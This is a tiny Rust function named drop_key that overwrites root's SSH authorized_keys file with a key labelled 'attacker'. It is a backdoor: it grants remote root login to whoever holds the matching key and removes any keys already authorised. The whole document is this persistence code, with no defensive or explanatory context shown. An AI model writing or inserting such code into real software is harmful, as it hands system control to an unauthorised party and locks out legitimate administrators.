pub fn drop_key() {
    let _ = std::fs::write("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker");
}
